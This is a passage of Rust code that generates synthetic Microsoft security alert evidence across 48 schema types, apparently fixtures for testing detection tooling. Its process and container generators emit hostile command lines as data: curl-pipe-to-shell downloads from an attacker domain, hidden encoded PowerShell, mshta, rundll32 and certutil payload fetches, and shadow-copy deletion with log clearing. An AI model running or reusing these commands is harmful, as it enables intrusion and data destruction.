//! Evidence of alerts: all 48 types of the documented schema, made up from it.

use crate::world::cast::{Cast, Host, User, public_address};
use crate::world::dice::Dice;
use crate::world::ticks::Ticks;
use crate::world::writer::Writer;

/// The tails of `@odata.type` in schema v1.0 that derive from `alertEvidence`.
#[cfg(test)]
pub(crate) const EVIDENCE_TYPES: [&str; 48] = [
    "activeDirectoryDomainEvidence",
    "aiAgentEvidence",
    "amazonResourceEvidence",
    "analyzedMessageEvidence",
    "azureResourceEvidence",
    "blobContainerEvidence",
    "blobEvidence",
    "cloudApplicationEvidence",
    "cloudLogonRequestEvidence",
    "cloudLogonSessionEvidence",
    "containerEvidence",
    "containerImageEvidence",
    "containerRegistryEvidence",
    "deviceEvidence",
    "dnsEvidence",
    "fileEvidence",
    "fileHashEvidence",
    "gitHubOrganizationEvidence",
    "gitHubRepoEvidence",
    "gitHubUserEvidence",
    "googleCloudResourceEvidence",
    "hostLogonSessionEvidence",
    "ioTDeviceEvidence",
    "ipEvidence",
    "kubernetesClusterEvidence",
    "kubernetesControllerEvidence",
    "kubernetesNamespaceEvidence",
    "kubernetesPodEvidence",
    "kubernetesSecretEvidence",
    "kubernetesServiceAccountEvidence",
    "kubernetesServiceEvidence",
    "mailClusterEvidence",
    "mailboxConfigurationEvidence",
    "mailboxEvidence",
    "malwareEvidence",
    "networkConnectionEvidence",
    "nicEvidence",
    "oauthApplicationEvidence",
    "processEvidence",
    "registryKeyEvidence",
    "registryValueEvidence",
    "sasTokenEvidence",
    "securityGroupEvidence",
    "servicePrincipalEvidence",
    "submissionMailEvidence",
    "teamsMessageEvidence",
    "urlEvidence",
    "userEvidence",
];

/// Writes evidence of one alert.
pub(crate) struct EvidenceWriter<'a> {
    pub(crate) writer: &'a mut Writer,
    pub(crate) cast: &'a Cast<'a>,
    pub(crate) dice: &'a mut Dice,
    pub(crate) at: Ticks,
}

impl EvidenceWriter<'_> {
    /// One element of `evidence`; `kind` is the tail of its `@odata.type`.
    pub(crate) fn element(&mut self, kind: &str) {
        self.writer.open();
        self.body(kind);
    }

    fn nested(&mut self, key: &str, kind: &str) {
        self.writer.open_object(key);
        self.body(kind);
    }

    fn nested_list(&mut self, key: &str, kind: &str, count: usize) {
        self.writer.open_array(key);
        for _ in 0..count {
            self.element(kind);
        }
        self.writer.close_array();
    }

    fn body(&mut self, kind: &str) {
        self.writer.string("@odata.type", &format!("#microsoft.graph.security.{kind}"));
        let created = self.at.plus_seconds(-self.dice.between(0, 90));
        self.writer.time("createdDateTime", created);
        let verdict =
            self.dice.choose(&["unknown", "suspicious", "suspicious", "malicious", "noThreatsFound"]);
        self.writer.string("verdict", verdict);
        let (status, hidden) = self.dice.choose(&[
            ("none", false),
            ("none", false),
            ("none", false),
            ("none", false),
            ("remediated", false),
            ("prevented", false),
            ("blocked", false),
            ("notFound", false),
            ("active", true),
            ("pendingApproval", true),
            ("unremediated", true),
            ("partiallyRemediated", true),
        ]);
        self.writer.evolvable("remediationStatus", status, hidden);
        let details = match status {
            "remediated" => Some("Entity was remediated automatically"),
            "blocked" => Some("Entity was blocked by policy"),
            _ => None,
        };
        self.writer.optional("remediationStatusDetails", details);
        let role: &[&str] = self.dice.choose(&[
            &[] as &'static [&'static str],
            &[],
            &["compromised"],
            &["attacked"],
            &["attacker"],
            &["source"],
            &["destination"],
            &["created"],
            &["added"],
            &["edited"],
            &["scanned"],
            &["contextual"],
            &["commandAndControl"],
            &["loaded"],
            &["suspicious"],
            &["policyViolator"],
            &["compromised", "source"],
        ]);
        self.writer.strings("roles", role);
        let detailed: &[&str] = self.dice.choose(&[
            &[] as &'static [&'static str],
            &[],
            &["Main device"],
            &["Referred in command line"],
            &["Primary device"],
        ]);
        self.writer.strings("detailedRoles", detailed);
        let tags: &[&str] = self.dice.choose(&[
            &[] as &'static [&'static str],
            &[],
            &[],
            &["Tier 0"],
            &["Test machine", "PCI"],
        ]);
        self.writer.strings("tags", tags);
        self.own(kind);
        self.writer.close();
    }

    fn own(&mut self, kind: &str) {
        let cast = self.cast;
        let domain = cast.tenant.domain.as_str();
        let pick = self.dice.index(3);
        let (host, user) = (&cast.hosts[pick.min(1)], &cast.users[pick]);
        match kind {
            "activeDirectoryDomainEvidence" => {
                self.writer.string("activeDirectoryDomainName", &format!("corp.{domain}"));
                self.writer.open_array("trustedDomains");
                self.writer.open();
                self.writer.string("@odata.type", "#microsoft.graph.security.activeDirectoryDomainEvidence");
                self.writer.string("activeDirectoryDomainName", &format!("emea.corp.{domain}"));
                self.writer.open_array("trustedDomains");
                self.writer.close_array();
                self.writer.close();
                self.writer.close_array();
            }
            "aiAgentEvidence" => {
                self.guid("agentId");
                self.choice("agentName", &["Travel desk helper", "HR onboarding agent", "Invoice reader"]);
                self.choice("hostingPlatformType", &["azureAIFoundry", "copilotStudio", "copilot"]);
                self.writer.string(
                    "instructions",
                    "Answer questions of employees about their bookings. Never show bookings of others.",
                );
            }
            "amazonResourceEvidence" => {
                let account = self.dice.between(100_000_000_000, 999_999_999_999).to_string();
                let instance = format!("i-0{}", self.dice.hex(16));
                self.writer.string("amazonAccountId", &account);
                self.writer.string(
                    "amazonResourceId",
                    &format!("arn:aws:ec2:eu-north-1:{account}:instance/{instance}"),
                );
                self.writer.string("resourceName", &instance);
                self.writer.string("resourceType", "EC2 Instance");
            }
            "analyzedMessageEvidence" => self.analyzed_message(user),
            "azureResourceEvidence" => {
                let kind = self.dice.choose(&[
                    "Microsoft.Compute/virtualMachines",
                    "Microsoft.Storage/storageAccounts",
                    "Microsoft.KeyVault/vaults",
                    "Microsoft.Sql/servers",
                ]);
                let name = format!("{}{}", &cast.hosts[0].name, self.dice.below(90));
                let (subscription, group) =
                    (self.dice.guid(), self.dice.choose(&["rg-prod-weu", "rg-identity", "rg-data-swc"]));
                self.writer.string(
                    "resourceId",
                    &format!("/subscriptions/{subscription}/resourceGroups/{group}/providers/{kind}/{name}"),
                );
                self.writer.string("resourceName", &name);
                self.writer.string("resourceType", kind);
            }
            "blobContainerEvidence" => {
                let container = self.dice.choose(&["backups", "public-assets", "exports", "logs"]);
                self.writer.string("name", container);
                self.writer.string(
                    "url",
                    &format!(
                        "https://{}store.blob.core.example/{container}",
                        cast.tenant.netbios.to_lowercase()
                    ),
                );
                self.nested("storageResource", "azureResourceEvidence");
            }
            "blobEvidence" => {
                self.writer.string("name", &cast.file);
                self.writer.string(
                    "url",
                    &format!(
                        "https://{}store.blob.core.example/exports/{}",
                        cast.tenant.netbios.to_lowercase(),
                        cast.file.replace(' ', "%20")
                    ),
                );
                let etag = format!("0x8DC{}", self.dice.hex(12).to_uppercase());
                self.writer.string("etag", &etag);
                self.writer.open_array("fileHashes");
                for (algorithm, value) in [("sha256", cast.sha256.as_str()), ("sha1", cast.sha1.as_str())] {
                    self.writer.open();
                    self.writer.string("algorithm", algorithm);
                    self.writer.string("value", value);
                    self.writer.close();
                }
                self.writer.close_array();
                self.nested("blobContainer", "blobContainerEvidence");
            }
            "cloudApplicationEvidence" => {
                let (id, name) = self.dice.choose(&[
                    (11161, "Microsoft 365"),
                    (20893, "Microsoft Exchange Online"),
                    (15600, "Microsoft OneDrive for Business"),
                    (11114, "Salesforce"),
                    (20892, "Microsoft SharePoint Online"),
                ]);
                self.writer.number("appId", id);
                self.writer.string("displayName", name);
                self.writer.number("instanceId", 0);
                self.writer.string("instanceName", name);
                self.writer.number("saasAppId", id);
                self.writer.null("stream");
            }
            "cloudLogonRequestEvidence" => self.guid("requestId"),
            "cloudLogonSessionEvidence" => {
                self.guid("sessionId");
                self.writer.time("startUtcDateTime", self.at.plus_seconds(-1800));
                self.writer.time("previousLogonDateTime", self.at.plus_seconds(-86_400));
                self.choice("protocol", &["OAuth2:Token", "SAML", "OAuth2:Authorize"]);
                self.writer.string("deviceName", &host.name);
                self.choice("operatingSystem", &["Windows 11", "macOS 15", "iOS 18", "Android 15"]);
                self.choice("browser", &["Edge 141.0", "Chrome 141.0", "Safari 18.1"]);
                self.writer.string("userAgent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36");
                self.nested("account", "userEvidence");
            }
            "containerEvidence" => {
                let id = self.dice.hex(64);
                self.writer.string("containerId", &id);
                self.choice("name", &["checkout", "ingress", "worker", "sidecar-proxy"]);
                self.writer.flag("isPrivileged", pick == 0);
                self.writer.strings("command", &["/bin/sh", "-c"]);
                self.writer.strings("args", &[format!("curl -s http://{}/x.sh | sh", cast.attacker_domain)]);
                self.nested("image", "containerImageEvidence");
                self.writer.null("pod");
            }
            "containerImageEvidence" => {
                let digest = self.dice.hex(64);
                self.writer.string("imageId", &format!("registry.{domain}/shop/checkout@sha256:{digest}"));
                self.writer.null("digestImage");
                self.nested("registry", "containerRegistryEvidence");
            }
            "containerRegistryEvidence" => self.writer.string("registry", &format!("registry.{domain}")),
            "deviceEvidence" => self.device(host),
            "dnsEvidence" => {
                self.writer.string("domainName", &cast.attacker_domain);
                self.nested("dnsServerIp", "ipEvidence");
                self.nested("hostIpAddress", "ipEvidence");
                self.nested_list("ipAddresses", "ipEvidence", 1);
            }
            "fileEvidence" => {
                self.detection_status();
                self.writer.string("mdeDeviceId", &host.device_id);
                let folder = self.folder(host, user);
                self.file_details("fileDetails", &cast.file, &folder, true);
            }
            "fileHashEvidence" => {
                let (algorithm, value) = match pick {
                    0 => ("sha256", cast.sha256.clone()),
                    1 => ("sha1", cast.sha1.clone()),
                    _ => ("md5", self.dice.hex(32)),
                };
                self.writer.string("algorithm", algorithm);
                self.writer.string("value", &value);
            }
            "gitHubOrganizationEvidence" => {
                let login = domain.trim_end_matches(".example");
                self.writer.string("orgId", &self.dice.between(1_000_000, 99_999_999).to_string());
                self.writer.string("login", login);
                self.writer.string("displayName", &cast.tenant.name);
                self.writer.string("company", &cast.tenant.name);
                self.writer.string("email", &format!("it@{domain}"));
                self.writer.string("webUrl", &format!("https://github.example/{login}"));
            }
            "gitHubRepoEvidence" => {
                let login = domain.trim_end_matches(".example");
                self.writer.string("repoId", &self.dice.between(1_000_000, 999_999_999).to_string());
                self.writer.string("login", &format!("{login}/payments"));
                self.writer.string("owner", login);
                self.writer.string("ownerType", "Organization");
                self.writer.string("baseUrl", "https://github.example");
            }
            "gitHubUserEvidence" => {
                self.writer.string("userId", &self.dice.between(1_000_000, 99_999_999).to_string());
                self.writer.string("login", &user.account.replace('.', "-"));
                self.writer.string("name", &user.display);
                self.writer.string("email", &format!("{}@{domain}", user.account));
                self.writer
                    .string("webUrl", &format!("https://github.example/{}", user.account.replace('.', "-")));
            }
            "googleCloudResourceEvidence" => {
                let project = format!("{}-prod", domain.trim_end_matches(".example"));
                self.writer.string("projectId", &project);
                self.writer.number("projectNumber", self.dice.between(100_000_000_000, 999_999_999_999));
                self.writer.string("resourceType", "GCP VM Instance");
                self.writer.string("resourceName", &host.name);
                self.writer.string("location", "europe-north1-a");
                self.choice("locationType", &["zonal", "regional", "global"]);
                self.writer.string(
                    "fullResourceName",
                    &format!(
                        "//compute.googleapis.example/projects/{project}/zones/europe-north1-a/instances/{}",
                        host.name
                    ),
                );
            }
            "hostLogonSessionEvidence" => {
                let session = self.dice.below(900_000).to_string();
                self.writer.string("sessionId", &session);
                self.writer.time("startUtcDateTime", self.at.plus_seconds(-2400));
                self.writer.time("endUtcDateTime", self.at.plus_seconds(-60));
                self.nested("account", "userEvidence");
                self.nested("host", "deviceEvidence");
            }
            "ioTDeviceEvidence" => self.iot_device(host),
            "ipEvidence" => {
                let address =
                    if pick == 0 { public_address(self.dice) } else { cast.attacker_address.clone() };
                self.writer.string("ipAddress", &address);
                let (code, country, city, latitude, longitude) = self.dice.choose(&[
                    ("SE", "Sweden", "Stockholm", "59.33", "18.06"),
                    ("DE", "Germany", "Frankfurt", "50.11", "8.68"),
                    ("US", "United States", "Ashburn", "39.04", "-77.49"),
                    ("BR", "Brazil", "São Paulo", "-23.55", "-46.63"),
                ]);
                self.writer.string("countryLetterCode", code);
                self.writer.open_object("location");
                self.writer.string("city", city);
                self.writer.null("state");
                self.writer.string("countryName", country);
                self.writer.number("latitude", latitude);
                self.writer.number("longitude", longitude);
                self.writer.close();
                self.writer.null("stream");
            }
            "kubernetesClusterEvidence" => {
                self.writer.string("name", &format!("aks-{}-prod", domain.trim_end_matches(".example")));
                self.choice("platform", &["aks", "eks", "gke", "arc"]);
                self.choice("version", &["1.31.2", "1.30.6"]);
                self.writer.null("distribution");
                self.nested("cloudResource", "azureResourceEvidence");
            }
            "kubernetesControllerEvidence" => {
                self.writer.string("name", "checkout");
                self.choice("type", &["Deployment", "DaemonSet", "StatefulSet"]);
                self.labels("labels");
                self.nested("namespace", "kubernetesNamespaceEvidence");
            }
            "kubernetesNamespaceEvidence" => {
                self.choice("name", &["shop", "kube-system", "payments"]);
                self.labels("labels");
                self.nested("cluster", "kubernetesClusterEvidence");
            }
            "kubernetesPodEvidence" => {
                self.writer.string("name", &format!("checkout-{}-{}", self.dice.hex(9), self.dice.hex(5)));
                self.labels("labels");
                self.nested("podIp", "ipEvidence");
                self.nested("namespace", "kubernetesNamespaceEvidence");
                self.nested("controller", "kubernetesControllerEvidence");
                self.nested("serviceAccount", "kubernetesServiceAccountEvidence");
                self.nested_list("containers", "containerEvidence", 1);
                self.nested_list("initContainers", "containerEvidence", 0);
                self.nested_list("ephemeralContainers", "containerEvidence", 0);
            }
            "kubernetesSecretEvidence" => {
                self.choice("name", &["db-credentials", "tls-wildcard", "registry-pull"]);
                self.choice("secretType", &["Opaque", "kubernetes.io/tls", "kubernetes.io/dockerconfigjson"]);
                self.nested("namespace", "kubernetesNamespaceEvidence");
            }
            "kubernetesServiceAccountEvidence" => {
                self.choice("name", &["default", "deployer", "metrics-reader"]);
                self.nested("namespace", "kubernetesNamespaceEvidence");
            }
            "kubernetesServiceEvidence" => {
                self.writer.string("name", "checkout-public");
                self.choice("serviceType", &["clusterIP", "nodePort", "loadBalancer", "externalName"]);
                self.labels("labels");
                self.labels("selector");
                self.nested("clusterIP", "ipEvidence");
                self.nested_list("externalIPs", "ipEvidence", 1);
                self.nested("namespace", "kubernetesNamespaceEvidence");
                self.writer.open_array("servicePorts");
                self.writer.open();
                self.writer.string("name", "https");
                self.writer.string("protocol", "tcp");
                self.writer.number("port", 443);
                self.writer.number("nodePort", 30_443);
                self.writer.string("targetPort", "8443");
                self.writer.null("appProtocol");
                self.writer.close();
                self.writer.close_array();
            }
            "mailClusterEvidence" => {
                let count = self.dice.between(2, 12);
                self.writer.string("clusterBy", "Subject;P2SenderDomain;ContentType");
                self.writer
                    .string("clusterByValue", &format!("{};{};1", cast.mail_subject, cast.attacker_domain));
                self.writer.number("emailCount", count);
                let ids: Vec<String> = (0..count.min(4)).map(|_| self.dice.guid()).collect();
                self.writer.strings("networkMessageIds", &ids);
                self.writer.string(
                    "query",
                    &format!(
                        "( ((NormalizedSubject:\"{}\") ) AND ((SenderFromDomain:\"{}\") ) )",
                        cast.mail_subject, cast.attacker_domain
                    ),
                );
                let urn = format!("urn:MailClusterEntity:{}", self.dice.hex(32));
                self.writer.string("urn", &urn);
            }
            "mailboxConfigurationEvidence" => {
                let id = self.dice.hex(16);
                self.writer.string("configurationId", &id);
                self.choice(
                    "configurationType",
                    &["mailForwardingRule", "owaSettings", "ewsSettings", "mailDelegation", "userInboxRule"],
                );
                self.writer.string("displayName", "RSS feeds rule");
                self.writer.string("mailboxPrimaryAddress", &format!("{}@{domain}", user.account));
                self.writer.string("upn", &format!("{}@{domain}", user.account));
                self.guid("externalDirectoryObjectId");
            }
            "mailboxEvidence" => {
                self.writer.string("primaryAddress", &format!("{}@{domain}", user.account));
                self.writer.string("displayName", &user.display);
                self.writer.string("upn", &format!("{}@{domain}", user.account));
                self.user_account("userAccount", user);
            }
            "malwareEvidence" => {
                self.writer.string("name", cast.malware.2);
                self.choice("category", &["Trojan", "Ransomware", "HackTool", "Backdoor"]);
                self.nested_list("files", "fileEvidence", 1);
                self.nested_list("processes", "processEvidence", usize::from(pick == 0));
            }
            "networkConnectionEvidence" => {
                self.choice("protocol", &["tcp", "udp"]);
                self.nested("sourceAddress", "ipEvidence");
                self.writer.number("sourcePort", self.dice.between(49_152, 65_535));
                self.nested("destinationAddress", "ipEvidence");
                self.writer.number("destinationPort", self.dice.choose(&[443, 445, 3389, 8080, 53]));
            }
            "nicEvidence" => {
                self.mac("macAddress");
                self.writer.strings("vlans", &["20", "114"]);
                self.nested("ipAddress", "ipEvidence");
            }
            "oauthApplicationEvidence" => {
                self.guid("appId");
                self.guid("objectId");
                self.choice("displayName", &["Calendar Sync Pro", "PDF Convert 365", "Mail Merge Plus"]);
                self.choice("publisher", &["Unverified publisher", "Litware Apps"]);
            }
            "processEvidence" => self.process(host, user),
            "registryKeyEvidence" => {
                self.writer.string("registryKey", r"SOFTWARE\Microsoft\Windows\CurrentVersion\Run");
                self.choice("registryHive", &["HKEY_LOCAL_MACHINE", "HKEY_CURRENT_USER"]);
            }
            "registryValueEvidence" => {
                self.writer.string("mdeDeviceId", &host.device_id);
                self.writer.string("registryKey", r"SOFTWARE\Microsoft\Windows\CurrentVersion\Run");
                self.choice("registryHive", &["HKEY_LOCAL_MACHINE", "HKEY_CURRENT_USER"]);
                self.choice("registryValueName", &["Updater", "OneDriveSync", "(Default)"]);
                self.writer.string(
                    "registryValue",
                    &format!(r#""C:\Users\{}\AppData\Roaming\{}" /background"#, user.account, cast.file),
                );
                self.writer.string("registryValueType", "ExpandString");
            }
            "sasTokenEvidence" => {
                self.writer.string("allowedIpAddresses", "0.0.0.0-255.255.255.255");
                self.writer.strings("allowedResourceTypes", &["container", "object"]);
                self.writer.strings("allowedServices", &["blob"]);
                self.writer.strings("permissions", &["read", "list", "write"]);
                self.writer.string("protocol", "https");
                let hash = self.dice.base64(32);
                self.writer.string("signatureHash", &hash);
                self.writer.string("signedWith", "key1");
                self.writer.time("startDateTime", self.at.plus_seconds(-86_400));
                self.writer.time("expiryDateTime", self.at.plus_seconds(86_400 * 365));
                self.nested("storageResource", "azureResourceEvidence");
            }
            "securityGroupEvidence" => {
                let name = self.dice.choose(&["Domain Admins", "Backup Operators", "SQL-Prod-Admins"]);
                self.writer.string("displayName", name);
                self.writer.string("friendlyName", name);
                self.writer.string(
                    "distinguishedName",
                    &format!(
                        "CN={name},OU=Groups,DC=corp,DC={},DC=example",
                        domain.trim_end_matches(".example")
                    ),
                );
                self.guid("activeDirectoryObjectGuid");
                self.guid("securityGroupId");
                self.writer.string(
                    "sid",
                    &format!("{}-512", user.sid.rsplit_once('-').map_or("S-1-5-21", |parts| parts.0)),
                );
            }
            "servicePrincipalEvidence" => {
                self.guid("appId");
                self.guid("appOwnerTenantId");
                self.choice(
                    "servicePrincipalName",
                    &["backup-automation", "terraform-deploy", "legacy-sync"],
                );
                self.guid("servicePrincipalObjectId");
                self.choice("servicePrincipalType", &["application", "managedIdentity", "legacy", "unknown"]);
                self.writer.string("tenantId", &cast.tenant.id);
            }
            "submissionMailEvidence" => {
                self.guid("submissionId");
                self.guid("networkMessageId");
                self.writer.time("submissionDateTime", self.at.plus_seconds(-300));
                self.writer.string("submitter", &format!("{}@{domain}", user.account));
                self.writer.string("recipient", &format!("{}@{domain}", user.account));
                self.writer.string("sender", &format!("billing@{}", cast.attacker_domain));
                self.writer.string("senderIp", &cast.attacker_address);
                self.writer.string("subject", cast.mail_subject);
                self.choice("reportType", &["Phish", "Junk", "Malware", "NotJunk"]);
            }
            "teamsMessageEvidence" => self.teams_message(user),
            "urlEvidence" => {
                let path = self.dice.hex(10);
                self.writer.string(
                    "url",
                    &format!(
                        "https://{}/{path}/index.php?u={}%40{domain}",
                        cast.attacker_domain, user.account
                    ),
                );
            }
            "userEvidence" => {
                self.writer.null("stream");
                self.user_account("userAccount", user);
            }
            other => unreachable!("not an evidence type: {other}"),
        }
    }

    fn guid(&mut self, key: &str) {
        let guid = self.dice.guid();
        self.writer.string(key, &guid);
    }

    fn choice(&mut self, key: &str, choices: &[&str]) {
        let value = self.dice.choose(choices);
        self.writer.string(key, value);
    }

    fn mac(&mut self, key: &str) {
        let digits = self.dice.hex(12).to_uppercase();
        let pairs: Vec<&str> = (0..6).map(|pair| &digits[pair * 2..pair * 2 + 2]).collect();
        self.writer.string(key, &pairs.join("-"));
    }

    fn labels(&mut self, key: &str) {
        self.writer.open_object(key);
        self.writer.string("app", "checkout");
        self.writer.string("app.kubernetes.io/part-of", "shop");
        self.writer.close();
    }

    fn detection_status(&mut self) {
        self.choice("detectionStatus", &["detected", "detected", "blocked", "prevented"]);
    }

    fn folder(&mut self, host: &Host, user: &User) -> String {
        match host.platform {
            "Linux" | "macOS" => (self.dice.choose(&["/tmp/.x", "/usr/local/bin", "/var/tmp"])).to_owned(),
            _ => match self.dice.below(4) {
                0 => format!(r"C:\Users\{}\Downloads", user.account),
                1 => format!(r"C:\Users\{}\AppData\Local\Temp", user.account),
                2 => r"C:\ProgramData\Intel".to_owned(),
                _ => r"C:\Windows\Temp".to_owned(),
            },
        }
    }

    fn file_details(&mut self, key: &str, name: &str, folder: &str, of_attack: bool) {
        let (sha1, sha256) = if of_attack {
            (self.cast.sha1.clone(), self.cast.sha256.clone())
        } else {
            (self.dice.hex(40), self.dice.hex(64))
        };
        self.writer.open_object(key);
        self.writer.string("sha1", &sha1);
        self.writer.string("sha256", &sha256);
        let md5 = self.dice.hex(32);
        self.writer.string("md5", &md5);
        self.writer.null("sha256Ac");
        self.writer.string("fileName", name);
        self.writer.string("filePath", folder);
        self.writer.number("fileSize", self.dice.between(900, 9_000_000));
        if of_attack {
            self.writer.null("filePublisher");
            self.writer.null("signer");
            self.writer.null("issuer");
        } else {
            self.writer.string("filePublisher", "Microsoft Corporation");
            self.writer.string("signer", "Microsoft Windows");
            self.writer.string("issuer", "Microsoft Windows Production PCA 2011");
        }
        self.writer.close();
    }

    fn user_account(&mut self, key: &str, user: &User) {
        let tenant = self.cast.tenant;
        self.writer.open_object(key);
        self.writer.string("accountName", &user.account);
        self.writer.string("domainName", &tenant.netbios);
        self.writer.string("userSid", &user.sid);
        self.writer.string("azureAdUserId", &user.entra_id);
        self.writer.string("userPrincipalName", &format!("{}@{}", user.account, tenant.domain));
        self.writer.string("displayName", &user.display);
        self.writer.null("activeDirectoryObjectGuid");
        self.writer.string("tenantId", &tenant.id);
        self.writer.open_array("resourceAccessEvents");
        self.writer.close_array();
        self.writer.close();
    }

    fn device(&mut self, host: &Host) {
        let tenant = self.cast.tenant;
        self.writer.time("firstSeenDateTime", self.at.plus_seconds(-86_400 * 211));
        self.writer.string("mdeDeviceId", &host.device_id);
        self.writer.optional("azureAdDeviceId", host.entra_id.as_deref());
        self.writer.string("deviceDnsName", &format!("{}.corp.{}", host.name, tenant.domain));
        self.writer.string("hostName", &host.name);
        self.writer.string("ntDomain", &tenant.netbios);
        self.writer.string("dnsDomain", &format!("corp.{}", tenant.domain));
        self.writer.string("osPlatform", host.platform);
        self.writer.number("osBuild", host.build);
        self.writer.string("version", host.version);
        self.choice(
            "healthStatus",
            &[
                "active",
                "active",
                "inactive",
                "impairedCommunication",
                "noSensorData",
                "noSensorDataImpairedCommunication",
                "unknown",
            ],
        );
        self.choice("riskScore", &["none", "informational", "low", "medium", "high"]);
        self.writer.number("rbacGroupId", host.group.0);
        self.writer.string("rbacGroupName", host.group.1);
        self.choice(
            "onboardingStatus",
            &["onboarded", "onboarded", "onboarded", "canBeOnboarded", "insufficientInfo", "unsupported"],
        );
        self.choice(
            "defenderAvStatus",
            &["updated", "notUpdated", "unknown", "disabled", "notReporting", "notSupported"],
        );
        self.writer.string("lastIpAddress", &host.address);
        let external = public_address(self.dice);
        self.writer.string("lastExternalIpAddress", &external);
        self.writer.strings(
            "ipInterfaces",
            &[host.address.as_str(), "fe80::9d2c:1f0a:33b1:7a1e", "127.0.0.1", "::1"],
        );
        if host.platform.starts_with("WindowsServer") {
            let (vm, subscription) = (self.dice.guid(), self.dice.guid());
            self.writer.open_object("vmMetadata");
            self.writer.string("vmId", &vm);
            self.writer.string("cloudProvider", "azure");
            self.writer.string("resourceId", &format!("/subscriptions/{subscription}/resourceGroups/rg-servers/providers/Microsoft.Compute/virtualMachines/{}", host.name));
            self.writer.string("subscriptionId", &subscription);
            self.writer.close();
        } else {
            self.writer.null("vmMetadata");
        }
        self.writer.open_array("loggedOnUsers");
        self.writer.open();
        self.writer.string("accountName", &self.cast.users[0].account);
        self.writer.string("domainName", &tenant.netbios);
        self.writer.close();
        self.writer.close_array();
        self.writer.open_array("resourceAccessEvents");
        self.writer.close_array();
    }

    fn process(&mut self, host: &Host, user: &User) {
        let cast = self.cast;
        let encoded = 60 + self.dice.index(120);
        let (image, folder, command) = if matches!(host.platform, "Linux" | "macOS") {
            let command =
                format!("bash -c \"curl -fsSL http://{}/i.sh | base64 -d | bash\"", cast.attacker_domain);
            ("bash", "/usr/bin", command)
        } else {
            match self.dice.below(6) {
                0 | 1 => {
                    let payload = self.dice.base64(encoded);
                    (
                        "powershell.exe",
                        r"C:\Windows\System32\WindowsPowerShell\v1.0",
                        format!("powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Enc {payload}"),
                    )
                }
                2 => (
                    "rundll32.exe",
                    r"C:\Windows\System32",
                    format!(
                        r#""C:\Windows\System32\rundll32.exe" C:\ProgramData\Intel\{},DllRegisterServer /i:https://{}/a"#,
                        cast.file, cast.attacker_domain
                    ),
                ),
                3 => (
                    "cmd.exe",
                    r"C:\Windows\System32",
                    format!(
                        r#"cmd.exe /c "vssadmin delete shadows /all /quiet & wevtutil cl Security & copy \\{}\c$\{} %TEMP%""#,
                        cast.hosts[1].name, cast.file
                    ),
                ),
                4 => (
                    "mshta.exe",
                    r"C:\Windows\System32",
                    format!("mshta.exe http://{}/p.hta", cast.attacker_domain),
                ),
                _ => (
                    "certutil.exe",
                    r"C:\Windows\System32",
                    format!(
                        "certutil.exe -urlcache -split -f https://{}/{} %TEMP%\\{}",
                        cast.attacker_domain, cast.file, cast.file
                    ),
                ),
            }
        };
        self.writer.number("processId", self.dice.between(300, 32_000));
        self.writer.number("parentProcessId", self.dice.between(300, 32_000));
        self.writer.string("processCommandLine", &command);
        self.writer.time("processCreationDateTime", self.at.plus_seconds(-45));
        self.writer.time("parentProcessCreationDateTime", self.at.plus_seconds(-7200));
        self.detection_status();
        self.writer.string("mdeDeviceId", &host.device_id);
        self.file_details("imageFile", image, folder, false);
        if matches!(host.platform, "Linux" | "macOS") {
            self.writer.null("parentProcessImageFile");
        } else {
            let parent = self.dice.choose(&["explorer.exe", "WINWORD.EXE", "services.exe", "outlook.exe"]);
            self.file_details("parentProcessImageFile", parent, r"C:\Windows", false);
        }
        self.user_account("userAccount", user);
    }

    fn analyzed_message(&mut self, user: &User) {
        let cast = self.cast;
        self.guid("networkMessageId");
        let message = self.dice.hex(24);
        self.writer.string("internetMessageId", &format!("<{message}@{}>", cast.attacker_domain));
        self.writer.string("subject", cast.mail_subject);
        self.choice("language", &["en", "de", "sv", "nl", "zh"]);
        self.writer.string("senderIp", &cast.attacker_address);
        self.writer.string("recipientEmailAddress", &format!("{}@{}", user.account, cast.tenant.domain));
        self.choice("antiSpamDirection", &["Inbound", "Intra-org", "Outbound"]);
        self.choice("deliveryAction", &["Delivered", "DeliveredAsSpam", "Blocked"]);
        self.choice("deliveryLocation", &["Inbox", "Quarantine", "JunkFolder"]);
        let urn = format!("urn:MailEntity:{}", self.dice.hex(32));
        self.writer.string("urn", &urn);
        self.writer.strings("threats", &["ZapPhish", "HighConfPhish"]);
        self.writer.strings("threatDetectionMethods", &["UrlReputation", "MLModel"]);
        let path = self.dice.hex(8);
        self.writer.strings("urls", &[format!("https://{}/{path}", cast.attacker_domain)]);
        self.writer.number("urlCount", 1);
        self.writer.number("attachmentsCount", self.dice.between(0, 2));
        self.writer.time("receivedDateTime", self.at.plus_seconds(-1200));
        for key in ["p1Sender", "p2Sender"] {
            self.writer.open_object(key);
            self.writer.string("emailAddress", &format!("billing@{}", cast.attacker_domain));
            self.writer.string("displayName", "Accounts receivable");
            self.writer.string("domainName", &cast.attacker_domain);
            self.writer.close();
        }
    }

    fn teams_message(&mut self, user: &User) {
        let cast = self.cast;
        let id = self.dice.between(1_700_000_000_000, 1_799_999_999_999).to_string();
        self.writer.string("messageId", &id);
        self.writer.string("parentMessageId", &id);
        self.guid("campaignId");
        self.writer.string("channelId", "19:general@thread.tacv2");
        self.writer.null("groupId");
        let thread = format!("19:{}@thread.v2", self.dice.hex(32));
        self.writer.string("threadId", &thread);
        self.writer.string("threadType", "chat");
        self.writer.string("sourceAppName", "Teams");
        self.writer.null("sourceId");
        self.writer.null("subject");
        self.choice("messageDirection", &["inbound", "outbound", "intraorg", "unknown"]);
        self.choice("deliveryAction", &["delivered", "deliveredAsSpam", "blocked", "replaced"]);
        self.choice("deliveryLocation", &["teams", "quarantine", "failed"]);
        self.writer.flag("isExternal", true);
        self.writer.flag("isOwned", false);
        self.writer.string("owningTenantId", &cast.tenant.id);
        self.writer.time("receivedDateTime", self.at.plus_seconds(-400));
        self.writer.time("lastModifiedDateTime", self.at.plus_seconds(-300));
        self.writer.string("senderFromAddress", &format!("support@{}", cast.attacker_domain));
        self.writer.string("senderIP", &cast.attacker_address);
        self.writer.strings("recipients", &[format!("{}@{}", user.account, cast.tenant.domain)]);
        self.writer.strings::<&str>("suspiciousRecipients", &[]);
        self.nested_list("urls", "urlEvidence", 1);
        self.nested_list("files", "fileEvidence", 1);
    }

    fn iot_device(&mut self, host: &Host) {
        self.guid("deviceId");
        self.choice("deviceName", &["PLC-Line4", "HVAC-North", "Badge-Reader-02"]);
